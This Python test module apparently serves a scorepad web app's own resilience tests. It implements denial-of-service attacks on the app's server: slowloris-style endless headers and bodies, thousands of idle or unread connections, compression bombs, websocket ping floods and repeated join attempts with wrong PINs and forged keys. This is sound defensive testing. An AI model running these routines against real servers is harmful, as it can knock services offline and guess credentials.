"""Whoever wants no entry, only harm, as a process of its own:
``python -m tests.proof.attacking KIND ADDRESS SECONDS COOKIE``. It stops by itself.

A real one sits at another machine, and its own work takes nothing from the server. So here it has
the processor only while the server and those who play leave it alone, and tells how many lines it
has opened, and what it has sent: that shows its strength.
"""

import asyncio
import json
import os
import resource
import ssl
import sys
import time
import zlib
from collections.abc import Awaitable, Callable
from contextlib import suppress
from urllib.parse import urlsplit

import msgpack
from flet.messaging.protocol import MessageAction

from scorepad.storage.exchange import FORMAT

PIECE = b"x" * 65_536
EXCHANGE_HEAD = b'{"format":"%s","entries":1}' % FORMAT.encode()


class Attack:
    """One attacker: where, as whom, and until when."""

    def __init__(self, address: str, seconds: float, cookie: str) -> None:
        self.address, self.cookie = urlsplit(address), cookie
        self.tls = ssl.create_default_context() if self.address.scheme == "https" else None
        self.end = time.monotonic() + seconds
        self.sent = self.lines = 0

    @property
    def goes_on(self) -> bool:
        return time.monotonic() < self.end

    def head(self, method: str, path: str, *more: str) -> bytes:
        lines = [f"{method} {path} HTTP/1.1", f"Host: {self.address.netloc}",
                 *([f"Cookie: {self.cookie}"] if self.cookie else []), *more, "", ""]
        return "\r\n".join(lines).encode()

    async def line(self) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        """A connection; its other end gets little room for what it says."""
        self.lines += 1
        return await asyncio.open_connection(self.address.hostname, self.address.port,
                                             ssl=self.tls, limit=1024)

    async def many(self, number: int, act: Callable[[], Awaitable[None]]) -> None:
        """Do the same at once on so many lines, again and again."""
        async def one() -> None:
            while self.goes_on:
                with suppress(OSError, EOFError, asyncio.IncompleteReadError,
                              asyncio.LimitOverrunError, TimeoutError):
                    async with asyncio.timeout_at(
                            asyncio.get_running_loop().time() + self.end - time.monotonic()):
                        await act()
                await asyncio.sleep(0.01)
        await asyncio.gather(*[one() for _each in range(number)])

    async def pour(self, begin: bytes, more: bytes = PIECE, *, read: bool = False) -> None:
        """Begin something, and never end it."""
        reader, writer = await self.line()
        try:
            writer.write(begin)
            while self.goes_on:
                writer.write(more)
                self.sent += len(more)
                await writer.drain()
                if read and reader.at_eof():
                    return
        finally:
            writer.transport.abort()

    async def silent(self, begin: bytes) -> None:
        """Ask, and read nothing of the answer."""
        reader, writer = await self.line()
        reader._transport.pause_reading()  # type: ignore[attr-defined]
        try:
            writer.write(begin)
            while self.goes_on:
                await asyncio.sleep(1)
                writer.write(b"\r\n")
                await writer.drain()
        finally:
            writer.transport.abort()

    async def post(self, path: str, body: bytes) -> int:
        """Send a body; the status of the answer."""
        reader, writer = await self.line()
        try:
            writer.write(self.head("POST", path, f"Content-Length: {len(body)}") + body)
            self.sent += len(body)
            return int((await reader.readuntil(b"\r\n")).split()[1])
        finally:
            writer.transport.abort()

    # --- what they do -------------------------------------------------------------------------

    async def endless_heads(self) -> None:
        await self.many(3, lambda: self.pour(b"GET / HTTP/1.1\r\nX: "))

    async def unread_answers(self) -> None:
        await self.many(3000, lambda: self.silent(self.head("GET", "/pocket/big.wasm") * 3))

    async def kept_lines(self) -> None:
        async def keep() -> None:
            reader, writer = await self.line()
            try:
                while self.goes_on:
                    writer.write(self.head("GET", "/"))
                    await reader.readuntil(b"\r\n\r\n")
                    await asyncio.sleep(4)
            finally:
                writer.transport.abort()
        await self.many(8300, keep)

    async def endless_trailers(self) -> None:
        begin = self.head("GET", "/watch/events", "Transfer-Encoding: chunked") + b"0\r\n"
        await self.many(8, lambda: self.pour(begin, b"X: " + PIECE + b"\r\n"))

    async def endless_bodies(self) -> None:
        begin = self.head("GET", "/watch/events", "Content-Length: 1000000000000")
        await self.many(8, lambda: self.pour(begin))

    async def packed_bombs(self) -> None:
        bombs = [zlib.compress(each, 9) for each in (
            EXCHANGE_HEAD + b"\n" + b"[" + b"[]," * 11_000_000, EXCHANGE_HEAD + b"\n" * 8_000_000,
            EXCHANGE_HEAD[:-1] + b',"known":[' + b"[]," * 60_000 + b"[]]}",
            EXCHANGE_HEAD + b"\n[" * 19_000)]

        async def send() -> None:
            for bomb in bombs:
                await self.post("/api/exchange", bomb)
        await self.many(8, send)

    async def page(self) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        """A page of the app that has registered."""
        reader, writer = await self.line()
        writer.write(self.head(
            "GET", "/ws", "Upgrade: websocket", "Connection: Upgrade",
            f"Origin: {self.address.geturl()}", "Sec-WebSocket-Version: 13",
            "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA=="))
        await reader.readuntil(b"\r\n\r\n")
        writer.write(frame(MessageAction.REGISTER_CLIENT, {
            "session_id": None, "page_name": "", "page": {"route": "/"}}))
        return reader, writer

    async def unread_pongs(self) -> None:
        ping = b"\x89\xfd\0\0\0\0" + b"x" * 125

        async def ping_on() -> None:
            reader, writer = await self.page()
            try:
                reader._transport.pause_reading()  # type: ignore[attr-defined]
                while self.goes_on:
                    writer.write(ping * 500)
                    self.sent += 500
                    await writer.drain()
            finally:
                writer.transport.abort()
        await self.many(24, ping_on)

    async def tapping(self) -> None:
        """Goes from screen to screen as fast as it is let."""
        routes = [frame(MessageAction.CONTROL_EVENT, {
            "target": 1, "name": "route_change", "data": {"route": route}})
            for route in ("/statistics", "/people", "/stars", "/")]

        async def tap_on() -> None:
            reader, writer = await self.page()
            try:
                reading = asyncio.create_task(reader.read(-1))
                while self.goes_on and not reading.done():
                    writer.write(b"".join(routes))
                    self.sent += len(routes)
                    await writer.drain()
                    await asyncio.sleep(0.01)
            finally:
                writer.transport.abort()
        await self.many(4, tap_on)

    async def half_bodies(self) -> None:
        async def half() -> None:
            _reader, writer = await self.line()
            try:
                writer.write(self.head("POST", "/api/exchange", "Content-Length: 8000000"))
                packed = zlib.compress(EXCHANGE_HEAD + b"\n", 0)
                writer.write(packed[:20])
                for _each in range(120):
                    writer.write(PIECE)
                    await writer.drain()
                await asyncio.sleep(60)
            finally:
                writer.transport.abort()
        await self.many(150, half)

    async def knocking(self) -> None:
        """Joins without a name, with wrong PINs and forged keys."""
        told = [{"pin": "000000", "name": "x"}, {"key": "A" * 22, "name": "x"}, {"pin": "1"},
                {"key": "own.x"}, {"pin": "000000", "name": "\u202eX"}]

        async def knock() -> None:
            for each in told:
                await self.post("/api/join", json.dumps(each).encode())
            self.cookie = f"{self.cookie.partition('=')[0]}={'B' * 43}"
            await self.post("/", b"")
        await self.many(50, knock)

    async def unread_streams(self) -> None:
        await self.many(50, lambda: self.silent(self.head("GET", "/watch/events")))


WITHOUT_KEY = ("endless_heads", "unread_answers", "kept_lines", "knocking")
AS_WATCHER = ("endless_trailers", "endless_bodies", "unread_streams")
AS_WRITER = ("packed_bombs", "unread_pongs", "half_bodies", "tapping")


def frame(action: MessageAction, body: object) -> bytes:
    """What a page says, as a short frame."""
    said = b"\0" + msgpack.packb([action.value, body])
    return b"\x82" + bytes([0x80 | len(said)]) + bytes(4) + said


def main() -> None:
    _soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    os.nice(19)
    kind, address, seconds, *cookie = sys.argv[1:]
    attack = Attack(address, float(seconds), cookie[0] if cookie else "")
    asyncio.run(getattr(attack, kind)())
    print(json.dumps({"lines": attack.lines, "sent": attack.sent}))


if __name__ == "__main__":
    main()
